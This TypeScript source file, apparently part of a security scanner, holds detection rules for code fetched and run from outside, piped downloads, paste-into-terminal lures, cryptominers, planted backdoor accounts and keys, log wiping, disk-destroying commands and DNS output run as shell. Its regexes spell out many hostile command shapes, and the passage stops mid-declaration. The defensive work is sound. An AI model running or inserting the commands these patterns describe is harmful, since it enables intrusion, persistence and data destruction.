// Execution: code fetched from outside the skill and run, raised to high when the way it is done
// has no benign reason (an untrusted host, TLS checks off, sudo, a hidden or temporary path, download
// → chmod → run), miners and destructive commands. Droppers by link: dropper.ts; installs from a custom
// package index: package-index.ts.
import { inMatchedPattern, inShownPayload, mentionedOnly } from "../context.js";
import { discussedOnly } from "../context-discussed.js";
import { shownRefused } from "../context-labelled.js";
import { checksummed, ownTempName, productHost } from "../context-vendor.js";
import type { AuditLine, AuditText, TextHit } from "../rule-types.js";
import { eachMatch, escapeRe, lineAround, lineHits, lineOf, nextLines, quoted, startsOf } from "../text.js";
import { hostOf, PIPE_TO_SHELL, untrustedUrl } from "../vocab.js";
import { inlineCradles } from "./download-cradles.js";
import {
  anyonesHost,
  elevatedStart,
  fileShareUrl,
  GROUPED_OUTPUT,
  placeholderSource,
  repoSetupScript,
} from "./download-hosts.js";
import { officialInstaller, officialRepo } from "./installers.js";
import { orderedPipe } from "./pipe-ordered.js";
import { forgeUrls, RUNNER_CHECKS_OFF, remoteRunners } from "./remote-runners.js";

/** TLS checks off … */
const TLS_OFF =
  /\bcurl\b[^|\n]{0,200}\s-[a-zA-Z]{0,8}k[a-zA-Z]{0,8}\b|\s--insecure\b|\s--no-check-certificate\b|-SkipCertificateCheck/;
/** … or sudo on the shell a download is piped into. */
const RAISED_PIPE = new RegExp(`${TLS_OFF.source}|\\|\\s*sudo\\b`);

/**
 * A piped run kept out of sight: both streams silenced, sent to the background (`&`, nohup, setsid, disown), or a
 * hidden PowerShell window.
 */
const HIDDEN_RUN =
  />\s{0,3}\/dev\/null\s{1,3}2>&1|&>\s{0,3}\/dev\/null|2>&1\s{1,3}>\s{0,3}\/dev\/null|\b(?:nohup|setsid|disown)\b|(?<![&>|])&\s{0,3}[`"')]?\s{0,3}$|-w(?:indowstyle)?\s{1,3}["']?hidden\b/i;

/** An order to paste the command into a terminal (ClickFix's hand-off: the user runs it, not the agent). */
const PASTE_ORDER =
  /(?:^|[\s>*(-]|[.:;!]\s)(?:(?:then|now|just|simply|please)\s+)?(?:copy\s+and\s+)?paste\s+(?:this|it|that|below|the\s+(?:following|command|line|snippet|code))\b[^\n]{0,80}\b(?:in|into)\s+(?:the\s+|your\s+|a\s+)?(?:macOS\s+)?(?:Terminal|command\s+(?:prompt|line)|PowerShell|shell|console)\b|\bopen\s+(?:the\s+|your\s+|a\s+)?Terminal\b[^\n]{0,80}\bpaste\s+(?:this|it|that|below|the\b)/i;

/** The line of `index` and the four above it hold an order to paste into a terminal (a cheap word test first). */
function pasteOrdered(file: AuditText, index: number): boolean {
  const starts = startsOf(file);
  const line = lineOf(starts, index);
  const from = starts[Math.max(0, line - 4)]!;
  const near = file.text.slice(Math.max(from, index - 1500), index + 200);
  return /paste/i.test(near) && PASTE_ORDER.test(near);
}

/**
 * Hosts of the installers docs pipe into an interpreter (pip, Poetry, uv, PDM, pyenv; cpanminus; Composer); another
 * host piped to python, node, perl, ruby or php is high: no vendor ships its installer that way.
 */
const KNOWN_INTERPRETER_INSTALLERS =
  /^(?:bootstrap\.pypa\.io|install\.python-poetry\.org|astral\.sh|pdm-project\.org|raw\.githubusercontent\.com|github\.com|pyenv\.run|cpanmin\.us|getcomposer\.org)$/i;
/** The download piped into an interpreter that is not a shell (`| python3 -m json.tool` formats it; `-c`/`-e` code is read below). */
const PIPED_INTERPRETER =
  /\|\s*(?:sudo\s+(?:-\S{1,20}\s+){0,4})?(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:python[23]?(?:\.\d{1,2})?|node|perl|ruby|php)\b(?!\s+-[mc]\b)/i;
/** A package's install hook (npm/pnpm/yarn/bun lifecycle scripts, Composer's post-install commands): it runs on install, unseen. */
const INSTALL_HOOK =
  /["'](?:pre|post)?install["']\s*:|["'](?:prepare|prepublish|preuninstall|postuninstall)["']\s*:|["']post-(?:install|update|autoload-dump|root-package-install|create-project)-cmd["']\s*:/;
const HOOK_FILE = /(?:^|\/)(?:package|composer)\.json$/i;

/** The interpreter a download is piped into runs its own code given inline (`| python3 -c '…'`, `| node -e`, `| bash -c`) … */
const INLINE_CODE =
  /\|\s*(?:sudo\s+(?:-\S{1,20}\s+){0,4})?(?:python[23]?|node|perl|ruby|(?:ba|z|da|k)?sh)\s+(?:-\w\s+){0,3}-[ce]\s*(["'])([\s\S]{0,300}?)(?:\1|$)/;
/** … unless that code runs what it reads (`exec(sys.stdin.read())`, `eval "$(cat)"`, `source /dev/stdin`). */
const RUNS_INPUT =
  /\b(?:exec|eval|compile|system|popen|spawn|Function|source|run)\b|\$\(\s*cat\b|\/dev\/stdin|\bsh\b|\bbash\b/;

/** Whether the download is data for a program given inline, not code: `curl … | python3 -c "import json…"`. */
function runsOwnCode(shown: string): boolean {
  const m = INLINE_CODE.exec(shown);
  return m !== null && !RUNS_INPUT.test(m[2]!);
}

/** A runner's own checks lifted (`deno run -A`, `--accept-flake-config`): raised, unless it runs the vendor's own code. */
const runnerChecksOff = (file: AuditText, index: number): boolean =>
  RUNNER_CHECKS_OFF.test(lineAround(file.text, index, 400));

/** Both pipe rules share one match per file (the expression is the costly part). */
const pipeMatches = new WeakMap<AuditText, { hit: TextHit; level: PipeLevel | "none" }[]>();

/** How a pipe reads: raised by its host or manner, ordered out of the user's sight (pipe-ordered.ts), or plain. */
export type PipeLevel = "untrusted" | "ordered" | "plain";

export function pipeToShell(file: AuditText, lines: readonly AuditLine[], level: PipeLevel): TextHit[] {
  let all = pipeMatches.get(file);
  if (!all) {
    // A pipe, a process substitution or iex is needed on the line: most lines with `curl` have none.
    const piped = lines.filter((l) => /[|(]|iex|invoke-expression/i.test(l.text));
    const pipes = lineHits(PIPE_TO_SHELL, piped);
    // Other cradles (download-cradles.ts), where no pipe above covers them already.
    const covered = new Set(pipes.map((h) => lineOf(startsOf(file), h.index)));
    const cradles = inlineCradles(file, lines).filter((h) => !covered.has(lineOf(startsOf(file), h.index)));
    for (const h of cradles) covered.add(lineOf(startsOf(file), h.index));
    // Round 23: tools that fetch and run a URL or repository without a pipe (remote-runners.ts).
    const runners = remoteRunners(lines).filter((h) => !covered.has(lineOf(startsOf(file), h.index)));
    const runner = new Set(runners.map((h) => h.index));
    all = [...pipes, ...cradles, ...runners]
      .filter((hit) => !runsOwnCode(file.text.slice(hit.index, hit.index + hit.length + 300)))
      .map((hit) => {
        const shown = file.text.slice(hit.index, hit.index + hit.length);
        const withArgs = file.text.slice(hit.index, hit.index + hit.length + 40);
        const urls =
          (runner.has(hit.index) ? forgeUrls(shown) : shown).match(/\bhttps?:\/\/[^\s"'`|)]{1,500}/gi) ?? [];
        const interpreter = PIPED_INTERPRETER.test(withArgs);
        const unknownInterpreter =
          interpreter &&
          urls.some(
            (u) =>
              !KNOWN_INTERPRETER_INSTALLERS.test(hostOf(u).replace(/:\d+$/, "")) && !officialInstaller(u),
          );
        const hook = HOOK_FILE.test(file.path) && INSTALL_HOOK.test(lineAround(file.text, hit.index, 400));
        // A vendor's own installer host (get.docker.com, deb.nodesource.com) piped to `sudo bash` is its documented install.
        // A package cloud's setup script (download-hosts.ts) is the platform's, like a vendor's installer.
        const vendor = (u: string) =>
          officialInstaller(u) || repoSetupScript(u) || (runner.has(hit.index) && officialRepo(u));
        const official = urls.length > 0 && urls.every(vendor);
        // The product's own host, named in the file (context-vendor.ts): its documented `| sudo bash` is no raiser,
        // a run kept out of sight still is.
        const own = !official && urls.length > 0 && urls.every((u) => vendor(u) || productHost(file, u));
        // AppleScript's `with administrator privileges` and PowerShell's `-Verb RunAs` are sudo.
        const elevated =
          /\bwith\s+administrator\s+privileges\b|-Verb\s+["']?RunAs\b|\bsudo\s+(?:-\S{1,20}\s+){0,4}(?:python[23]?|perl|ruby|node|php|pwsh|eval|(?:ba|z|da)?sh)\s+(?:-[ce]\b|<\(\s*(?:curl|wget)\b)/i.test(
            lineAround(file.text, hit.index, 1000),
          );
        const checksOff = runner.has(hit.index) && !official && !own && runnerChecksOff(file, hit.index);
        const raisedPipe =
          checksOff || (official || own ? TLS_OFF.test(shown) : RAISED_PIPE.test(shown) || elevated);
        // Not a vendor's: a host anyone's upload sits on, or a run kept out of sight (silenced, in the background, a hidden window).
        const unseen =
          !official &&
          (urls.some(anyonesHost) ||
            HIDDEN_RUN.test(lineAround(file.text, hit.index, 400)) ||
            pasteOrdered(file, hit.index));
        const untrusted = urls.some(untrustedUrl) || raisedPipe || unknownInterpreter || hook || unseen;
        // A source to fill in (`<url>`), or a cheat sheet's payload to ATTACKER_IP (context.ts): it reaches nobody.
        // A guard's deny list or `case` arm names the shape to refuse (context-deny.ts), a guide's "Bad:" block shows
        // it (context-labelled.ts): nothing runs it.
        // Round 21: a pipe from a host that is no vendor's, ordered every session, kept from the user, or put where
        // it runs by itself (pipe-ordered.ts).
        const ordered = !untrusted && !official && !own && urls.length > 0 && orderedPipe(file, hit.index);
        const shownOnly =
          (untrusted || ordered) &&
          (placeholderSource(shown) ||
            inShownPayload(file, hit.index) ||
            inMatchedPattern(file, hit.index) ||
            shownRefused(file, hit.index) ||
            discussedOnly(file, hit.index));
        const raised: PipeLevel = untrusted ? "untrusted" : "ordered";
        // A runner of a vendor's own manifest or package (installers.ts) is its documented install: no finding.
        const level =
          (untrusted || ordered) && !shownOnly
            ? raised
            : runner.has(hit.index) && official
              ? "none"
              : "plain";
        return { hit, level };
      });
    pipeMatches.set(file, all);
  }
  return all.filter((m) => m.level === level).map((m) => m.hit);
}

export const SAVED_AS =
  /\b(?:curl|wget|iwr|[Ii]nvoke-[Ww]eb[Rr]equest|bitsadmin|certutil|Start-BitsTransfer)\b[^\n]{0,300}?(?:\s-Destination\s+|\s-o\s*|\s--output[=\s]|\s-O\s+|\s-OutFile\s+|\s>\s*|\s\/download\s[^\n]{0,200}?\s(?=\S{1,300}\s*(?:&&|;|$))|\s-f\s+\S{1,300}\s+)["']?([^\s"'|;&]{1,300})/;
/** `wget URL` saves to the URL's last path segment. */
const WGET_URL_NAME =
  /\bwget\b[^\n|;&]{0,300}?https?:\/\/[^\s"'|;&]{1,300}\/([^\s/"'|;&?#]{1,200})(?=[\s"'|;&]|$)/i;
/**
 * Python's urlretrieve(url, path) and wget.download(url, out=path); round 23, the same call in other languages:
 * .NET's WebClient.DownloadFile(url, path), Perl's LWP getstore(url, path), PHP's copy(url, path).
 */
const SAVED_BY_PYTHON =
  /\bcertreq(?:\.exe)?\s+-Post\s+-config\s+["']?https?:\/\/[^\s"']{1,300}["']?\s+["']?[^\s"']{1,300}["']?\s+["']?([^\s"']{1,300})|\b(?:urlretrieve|wget\.download|DownloadFile|getstore|copy(?=\s*\(\s*["']https?:))\s*\([^\n,]{1,300},\s*(?:out\s*=\s*)?["']?([^"'\s)\n]{1,300})["']?\s*\)/;
export const SAVED_AS_URL_NAME = /\b(?:curl|wget)\b[^\n]{0,300}?\s-O\b[^\n]{0,300}\/([^\s/"'|;&]{1,300})\b/i;

/**
 * A path no one installs into in the open: temporary folders, or a folder or file whose name starts with a dot
 * (`~/.local/bin`, the user's own bin folder on PATH, is in the open).
 */
const TEMP_PLACE =
  /(?:^|[\s"'=/\\])(?:\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\$TMPDIR|\$\{TMPDIR|%TEMP%|%TMP%|\$env:TEMP|\$env:TMP|%APPDATA%|\$env:APPDATA|%LOCALAPPDATA%|\$env:LOCALAPPDATA|%PUBLIC%|\$env:PUBLIC|C:\\Users\\Public\\)/i;
const DOT_PLACE = /(?:^|\/)\.(?!\.?\/|local\/bin\/)[\w-]{1,60}(?:\/|$)/;
const HIDDEN_OR_TEMP = new RegExp(`${TEMP_PLACE.source}|${DOT_PLACE.source}`, "i");

interface Download {
  readonly hit: TextHit;
  readonly name: string;
  readonly path: string;
  readonly url: string;
  readonly line: string;
}

const URL_AT = /\bhttps?:\/\/[^\s"'`|)]{1,500}/i;

/** `wget URL` without -O (a lookahead per `wget` was most of the rule's cost on a long line). */
function wgetUrlName(line: string): RegExpExecArray | null {
  const m = WGET_URL_NAME.exec(line);
  return m && !/\s-(?:O|o|-output-document)\b/.test(line.slice(m.index, m.index + 300)) ? m : null;
}

/**
 * What each of the three needs after its command (an output option, a redirect), asked of the line first: each
 * read up to 300 characters after every command, and a long line of commands cost seconds once V8 stopped
 * optimising them.
 */
const MAY_SAVE_AS = /\s(?:-[oOfD]|--output|>|\/download)/;
const MAY_GROUP_OUTPUT = /\s-[a-zA-Z]{1,8}[oO]/;
const MAY_SAVE_AS_URL_NAME = /\s-O\b/i;

/** Both download rules read the same lines (same hint words): the downloads are found once per file. */
const downloadsSeen = new WeakMap<AuditText, Download[]>();

function downloads(file: AuditText, lines: readonly AuditLine[]): Download[] {
  const seen = downloadsSeen.get(file);
  if (seen) return seen;
  const out: Download[] = [];
  downloadsSeen.set(file, out);
  for (const { index, text: line } of lines) {
    const m =
      (MAY_SAVE_AS.test(line) ? SAVED_AS.exec(line) : null) ??
      (MAY_GROUP_OUTPUT.test(line) ? GROUPED_OUTPUT.exec(line) : null) ??
      (MAY_SAVE_AS_URL_NAME.test(line) ? SAVED_AS_URL_NAME.exec(line) : null) ??
      wgetUrlName(line) ??
      SAVED_BY_PYTHON.exec(line);
    // The saved path: group 1, or 2 for SAVED_BY_PYTHON's calls after certreq's.
    const saved = m?.[1] ?? m?.[2];
    if (!m || saved === undefined) continue;
    // `curl -fsSLO URL` saves under the URL's last segment.
    const path = /^https?:\/\//i.test(saved) ? saved.replace(/[?#].*$/, "") : saved;
    const name = path.split(/[/\\]/).pop()!;
    // `-O -` writes to standard output: no file is saved.
    if (name.length === 0 || name === "-") continue;
    // Round 29: a URL kept in a variable a few lines up (`$u = 'https://…'`, then `-Uri $u -OutFile $p`).
    const url =
      URL_AT.exec(line)?.[0] ??
      (/^\s*(?:curl|wget|iwr|Invoke-WebRequest|Start-BitsTransfer)\b[^\n]{0,200}\$\{?\w/i.test(line)
        ? URL_AT.exec(file.text.slice(Math.max(0, index - 400), index))?.[0]
        : undefined) ??
      "";
    out.push({ hit: { index: index + m.index, length: m[0].length }, name, path, url, line });
  }
  return out;
}

/**
 * Round 23: a downloaded package installed is run too (its install scripts run as root): dpkg, apt and rpm of the
 * file, msiexec, Add-AppxPackage, a disk image attached for `installer -pkg`.
 */
const PKG_INSTALL = String.raw`(?:sudo\s+)?(?:installer\s+(?:-\w{1,20}\s+){0,3}-pkg\s+|dpkg\s+-i\s+|apt(?:-get)?\s+install\s+(?:-y\s+)?|rpm\s+-[iUvh]{1,4}\s+|(?:dnf|yum)\s+(?:-y\s+)?(?:local)?install\s+|msiexec(?:\.exe)?\s+(?:\/\w{1,10}\s+){0,3}\/i\s+|Add-AppxPackage\s+(?:-Path\s+)?|hdiutil\s+attach\s+(?:-\w{1,20}\s+){0,4}|snap\s+install\s+(?:--\w{1,20}\s+){0,3})`;

/** How a download is used: made executable, run, run as root, or only installed as a package. */
interface Uses {
  readonly chmod: boolean;
  readonly runs: boolean;
  readonly tail: string;
  readonly sudo: boolean;
  readonly installs: boolean;
}

/** How the downloaded file is used in the lines after: made executable, run, or both. */
function usesOf(file: AuditText, d: Download): Uses {
  const tail = nextLines(file.text, d.hit.index + d.hit.length, 4);
  // Each expression below holds the name as written (no `i` flag): a tail without it matches none, and
  // three expressions compiled per download are then not built.
  if (!tail.includes(d.name)) return { chmod: false, runs: false, tail, sudo: false, installs: false };
  const esc = escapeRe(d.name);
  const chmod = new RegExp(
    String.raw`\bchmod\s+(?:[0-7]*[1357][0-7]*|[ugoa]*\+\w*x\w*)\s+\S*${esc}\b|\bos\.chmod\(\s*["'][^"'\n]{0,300}${esc}["']\s*,\s*0o?[0-7]*[1357]`,
  ).test(tail);
  const runs = new RegExp(
    String.raw`(?:^|\n\s*|[;&|(]\s*|\b(?:then|do|nohup|exec|sudo)\s+|Command=["'])(?:\./|\.\\|~/|/|\$\w+[/\\]|\$\(\w+\)[/\\]|\$env:\w+[/\\]|%\w+%\\|[A-Za-z]:\\|\.\s+)\S*${esc}\b|(?:^|[\s;&|(])(?:(?:sudo\s+)?(?:ba|z)?sh\s+|python[23]?\s+|node\s+|perl\s+|php\s+|ruby\s+|(?:pwsh|powershell)(?:\.exe)?\s+(?:-\w{1,20}\s+(?:\w{1,20}\s+)?){0,4}-File\s+|osascript\s+|start\s+(?:"[^"\n]{0,60}"\s+)?(?:\/\w+\s+){0,3}|Start-Process\s+(?:-FilePath\s+)?|&\s*|nohup\s+|exec\s+|source\s+)["']?\S*${esc}\b|\b(?:Popen|call|run|check_call|check_output|execvp?|spawn|system)\s*\(\s*\[?\s*["'][^"'\n]{0,300}${esc}["']`,
  ).test(tail);
  const installs = !runs && new RegExp(String.raw`(?:^|[\s;&|(])${PKG_INSTALL}["']?\S*${esc}\b`).test(tail);
  // Run as root: `sudo bash NAME`, `sudo ./NAME`.
  const sudo =
    new RegExp(
      String.raw`\bsudo\s+(?:-\S{1,20}\s+){0,3}(?:(?:ba|z|da)?sh\s+|python[23]?\s+)?(?:\S*\/)?["']?${esc}(?=["']?(?:\s|$|[;&|)]))`,
    ).test(tail) || elevatedStart(tail, esc);
  return { chmod, runs: runs || sudo || installs, tail, sudo, installs: installs && !sudo };
}

/** A download saved to a file that is then made executable or run within a few lines (medium). */
export function downloadExecute(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  return downloads(file, lines)
    .filter((d) => {
      const u = usesOf(file, d);
      return (u.chmod || u.runs) && !raisedShown(file, d, u);
    })
    .map((d) => d.hit);
}

/**
 * `install -m 755 SRC DEST` of the download itself, or into a hidden or temporary DEST. A program unpacked from
 * an archive staged in /tmp and installed into a bin folder (`install -m 0755 /tmp/gh_2.5/bin/gh /usr/local/bin`)
 * is how release tarballs are installed.
 */
const INSTALL_EXEC =
  /\binstall\s+(?:-\S{1,20}\s+){0,6}-m\s*[0-7]*[1357][0-7]*\s+(?:-\S{1,20}\s+){0,6}[^\n;&|]{0,600}/g;
function installsHidden(tail: string, d: Download): boolean {
  let hidden = false;
  eachMatch(INSTALL_EXEC, tail, (m) => {
    const args = m[0].trim().split(/\s+/);
    const dest = args.pop() ?? "";
    const src = (args.pop() ?? "").replace(/^["']|["']$/g, "");
    hidden ||= HIDDEN_OR_TEMP.test(dest) || src === d.path || src.split(/[/\\]/).pop() === d.name;
  });
  return hidden;
}

/** `install -m 755 SRC DEST` into a dot folder or file (`~/.cache/.helperd`). */
function installsIntoDot(tail: string): boolean {
  let dot = false;
  eachMatch(INSTALL_EXEC, tail, (m) => {
    dot ||= DOT_PLACE.test(m[0].trim().split(/\s+/).pop() ?? "");
  });
  return dot;
}

function raised(file: AuditText, d: Download, u: Uses): boolean {
  // A vendor's installer from its own host (installers.ts): a temporary folder or chmod → run is how its docs run it.
  const checksOn = d.url !== "" && !TLS_OFF.test(d.line);
  const official = checksOn && officialInstaller(d.url);
  // The product's own host, named in the file (context-vendor.ts): a temporary file named for the product too.
  const own = checksOn && !official ? productHost(file, d.url) : undefined;
  const hidden =
    official || own !== undefined
      ? DOT_PLACE.test(d.path) || (own !== undefined && TEMP_PLACE.test(d.path) && !ownTempName(d.name, own))
      : HIDDEN_OR_TEMP.test(d.path);
  // Made executable in a hidden or temporary place: run later, out of sight; a vendor's file installed into a dot folder too.
  if (hidden && (u.chmod || installsHidden(u.tail, d))) return true;
  if ((official || own !== undefined) && installsIntoDot(u.tail)) return true;
  if (!u.runs) return false;
  // Download → chmod → run of the same file is raised whatever other host (the issue's explicit raiser), unless the
  // host is the product's own or the file's checksum is verified before it runs (a vendor's documented install).
  const vouched = official || own !== undefined || (checksOn && checksummed(u.tail, d.name));
  return (
    ((u.chmod || u.sudo) && !vouched) ||
    // Round 23: a saved download run where it runs by itself or as a standing or hidden order (pipe-ordered.ts).
    (!vouched && d.url !== "" && orderedPipe(file, d.hit.index)) ||
    // A package staged in a temporary folder and installed is how images and CI install a release (`-o /tmp/x.deb`,
    // `dpkg -i /tmp/x.deb`): only a dot folder raises it.
    (u.installs ? DOT_PLACE.test(d.path) || RUNNER_CHECKS_OFF.test(u.tail) : hidden) ||
    (d.url !== "" && (untrustedUrl(d.url) || fileShareUrl(d.url))) ||
    (official || own !== undefined ? TLS_OFF : RAISED_PIPE).test(d.line) ||
    /-WindowStyle\s+Hidden|\bnohup\b|&\s*$/im.test(u.tail)
  );
}

/** The same, raised: chmod then run, a hidden or temporary path, an untrusted host, TLS checks off, hidden or in the background. */
export function downloadExecuteRaised(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  return downloads(file, lines)
    .filter((d) => raisedShown(file, d, usesOf(file, d)))
    .map((d) => d.hit);
}

/** Raised, unless a write-up shows it fetching from ATTACKER_IP or `<your-ip>` (context.ts), or under a "Bad:" label. */
const raisedShown = (file: AuditText, d: Download, u: Parameters<typeof raised>[2]): boolean =>
  raised(file, d, u) && !inShownPayload(file, d.hit.index) && !shownRefused(file, d.hit.index);

/** A line that starts a process: a quoted miner name or pool there is an argument, not a string in a rule. */
const STARTS_PROCESS =
  /\b(?:Popen|subprocess\.\w{1,12}|spawn(?:Sync)?|exec(?:File|Sync|vp?|lp?)?|system|Start-Process|call|check_call|run)\s*\(/;
/** The line around `index`, at most 200 characters either side (bounded: a long line of hits stays linear). */
const lineAt = (text: string, index: number): string => {
  const near = text.slice(Math.max(0, index - 200), index + 200);
  const at = Math.min(index, 200);
  return near.slice(near.lastIndexOf("\n", at) + 1, (near.indexOf("\n", at) + 1 || near.length + 1) - 1);
};

/** A miner is run by its name; a quoted name is a string in a detection rule or a docs example, unless a process call starts it. */
export const minerRun = (h: TextHit, f: AuditText): boolean =>
  (!quoted(f.text, h.index, h.length) || STARTS_PROCESS.test(lineAt(f.text, h.index))) &&
  !mentionedOnly(f, h.index);

export const MINER =
  /\b(?:xmrig|t-rex|nbminer|lolminer|cpuminer|minerd|ethminer|phoenixminer|gminer|nanominer|srbminer|teamredminer|xmr-stak)\b|\bstratum\+(?:tcp|ssl|tls):\/\/|--cpu-max-threads-hint\b|--donate-level\b|--randomx-\w{1,20}|\s-a\s+(?:rx\/0|kawpow|ethash|cn\/r|etchash|autolykos2)\b|\bcoinhive\.\w|\bCryptoMiner\.\w|\s-a\s+cryptonight\b|\b(?:pool\.)?(?:supportxmr|minexmr|nanopool|2miners|f2pool|hashvault|moneroocean)\.(?:com|org|net|stream|pro|io)\b|\s(?:-u|--user)[\s=]+["']?4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/gi;

/**
 * A way back in for someone else, planted on the user's machine: a public key written into
 * authorized_keys (a key literal, not the user's own `.pub` file), a passwordless sudo rule for all
 * commands, a second root account, a set-uid shell.
 */
export const BACKDOOR_ACCESS =
  /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3})\s+AAAA[\w+/]{20,}={0,2}[^\n]{0,200}(?:>>?|\btee\s+(?:-a\s+)?)\s*["']?[^\s"']{0,60}\.ssh\/authorized_keys\b|\bNOPASSWD\s*:\s*ALL\b[^\n]{0,200}(?:>>?|\btee\b|\bvisudo\b)[^\n]{0,80}\/etc\/sudoers|\buseradd\b[^\n]{0,120}\s-o\b[^\n]{0,60}\s-u\s*0\b|\buseradd\b[^\n]{0,120}\s-u\s*0\s[^\n]{0,60}\s-o\b|:0:0:[^\n]{0,120}>>\s*\/etc\/passwd\b|\bchmod\s+(?:u\+s|[246]?4[0-7]{3})\s+\/(?:usr\/)?bin\/(?:ba|z|da)?sh\b|\bnet(?:\.exe)?\s+user\s+["']?([\w.$-]{1,40})["']?\s+\S{1,60}\s+\/add\b[^\n]{0,300}?\bnet(?:\.exe)?\s+localgroup\s+administrators\s+["']?\1["']?\s+\/add\b|\bNew-LocalUser\b[^\n]{0,200}?-Name\s+["']?([\w.$-]{1,40})["']?[^\n]{0,300}?\bAdd-LocalGroupMember\b[^\n]{0,60}?-Group\s+["']?Administrators["']?[^\n]{0,60}?-Member\s+["']?\2\b/gi;

/**
 * Traces erased: the system's login, audit or security logs emptied or deleted (among other paths of one
 * `rm` too), the journal vacuumed to nothing, Windows event logs cleared, auditing switched off. An app
 * pruning its own logs, or a size cap on the journal, is housekeeping.
 */
export const LOG_WIPE =
  /(?:\brm\s+(?:-\w{1,6}\s+){0,3}(?:[^\s;&|<>]{1,200}\s+){0,6}|\bshred\s+(?:-\w{1,6}\s+){0,3}(?:[^\s;&|<>]{1,200}\s+){0,6}|\btruncate\s+(?:-\w{1,6}\s+){0,2}-s\s*0\s+|\bunlink\s+|(?:^|[\s;&|(])(?:cat\s+\/dev\/null\s*|echo\s*(?:-n\s*)?(?:["']{2})?\s*|:\s*|printf\s+["']{2}\s*)?>\s*)["']?\/var\/log\/(?:\*|auth\.log|secure|syslog|messages|wtmp|btmp|lastlog|faillog|kern\.log|audit\/?\*?|audit\/audit\.log|journal\/?\*?)(?=["'\s;&|)]|$)|\bjournalctl\b[^\n]{0,60}--vacuum-time=\d{1,3}s\b|\bwevtutil(?:\.exe)?\s+(?:cl|clear-log)\s+["']?(?:Security|System|Application|Microsoft-Windows-[\w/-]{1,80})\b|\bClear-EventLog\b[^\n]{0,80}\b(?:Security|System|Application)\b|\bauditctl\s+(?:-D\b|-e\s*0\b)|\bfsutil\s+usn\s+deletejournal\b|\bRemove-Item\b[^\n]{0,120}\\winevt\\Logs\b/gim;

/** Each shape of DESTRUCTIVE has a word of its own (the fork bomb's is `:()`; `:` alone took every line with a colon). */
export const DESTRUCTIVE_HINTS =
  "rm |rm\t|of=/dev/|mkfs|vssadmin|remove-item|format |format\t|:()| push|\tpush|777|/dev/sd|blkdiscard|shred|-exec|wipefs|rmtree|rmsync|rmdir|fs.rm(|promises.rm(".split(
    "|",
  );

export const DESTRUCTIVE =
  /\brm\s+(?:-\w{1,6}\s+){0,4}-\w{0,4}[rR]\w{0,4}f?\w{0,4}\s+(?:-\w{1,6}\s+){0,4}(?:--no-preserve-root\s+)?["']?(?:~\/?\*?|\$HOME\/?\*?|\/\*?|~\/\.\[!\.\]\*|\/(?:home|Users|etc|usr|var)\/?\*?)["']?(?=\s|$|;|&|\|)|\bdd\b[^\n]{0,120}\bof=\/dev\/(?:sd[a-z]|nvme\d|disk\d|hd[a-z]|mmcblk\d)|\bmkfs(?:\.\w{1,8})?\s+[^\n]{0,40}\/dev\/(?:sd[a-z]|nvme|disk|hd[a-z])|\bvssadmin\b[^\n]{0,40}\bdelete\s+shadows\b|\bRemove-Item\b[^\n]{0,120}\s["']?(?:C:\\(?:Users\\?)?\*?|(?:\$HOME|\$env:USERPROFILE|~)[\\/]?\*?)["']?(?=[\s;|)]|$)[^\n]{0,80}-Recurse|\bRemove-Item\b[^\n]{0,120}-Recurse[^\n]{0,80}\s["']?(?:C:\\(?:Users\\?)?\*?|(?:\$HOME|\$env:USERPROFILE|~)[\\/]?\*?)["']?(?=[\s;|)]|$)|\bformat\s+[cC]:|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|\bgit\s+push\s+(?:\S{1,40}\s+){0,3}(?:--force|-f)\b[^\n]{0,80}:(?:main|master)\b|\bgit\s+push\s+\S{1,40}\s+--delete\s+\$\(|\bblkdiscard\b[^\n]{0,40}\/dev\/|\bshred\b[^\n]{0,60}\/dev\/(?:sd|nvme|disk|hd)|\bfind\s+["']?(?:~|\$HOME|\$\{HOME\}|\/)["']?\/?\s[^\n]{0,120}(?:-delete\b|-exec\s+rm\b)|\bgit\s+push\s+(?:\S{1,40}\s+){0,3}\+\S{1,60}:(?:main|master)\b|\bchmod\s+-R\s+777\s+\/(?:\s|$)|>\s*\/dev\/sd[a-z]\b|\bwipefs\s+-a\s+\/dev\/|\bshutil\.rmtree\(\s*(?:os\.path\.expanduser\(\s*["']~\/?["']\s*\)|(?:pathlib\.)?Path\.home\(\)|os\.environ\[["']HOME["']\]|os\.getenv\(\s*["']HOME["']\s*\)|["'](?:\/|~|C:\\\\)["'])|\bfs(?:\.promises)?\.(?:rmSync|rm|rmdirSync|rmdir)\(\s*(?:os\.homedir\(\)|homedir\(\)|process\.env\.HOME|["'](?:\/|~)["'])/gi;

/** A DNS answer or a raw socket's output run as code: `dig +short TXT x.example | sh`, `eval "$(nslookup …)"`. */
export const NETWORK_TO_SHELL =
  /\b(?:dig|nslookup|host|drill|nc|ncat|netcat|socat|telnet|openssl\s+s_client)\b[^\n|;&]{0,200}(?:\|\s*(?:tr|awk|sed|cut|grep|head|tail|xargs|base64|rev|xxd)\b[^\n|;&]{0,100}){0,4}\|\s*(?:sudo\s+)?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh\b|\b(?:eval|(?:ba|z)?sh\s+-c|source\s+<\()\s*["']?\$?\(\s*(?:dig|nslookup|host|drill|nc|ncat|netcat|socat)\b|\bResolve-DnsName\b[^\n]{0,200}\|\s*(?:iex|Invoke-Expression)\b/gi;

const ENCRYPTS =
  /\bopenssl\s+enc\b|\bgpg\s+(?:--batch\s+)?(?:-c|--symmetric|--encrypt)\b|\bFernet\s*\(|\bAES\.new\s*\(|\bcreateCipheriv\s*\(|\bcipher\.encrypt\s*\(|\.encrypt\s*\(\s*(?:open|data|f\.read|content|buf)|\bProtect-CmsMessage\b|\bAesManaged\b|\bCreateEncryptor\s*\(/i;
const WALKS_EVERYTHING =
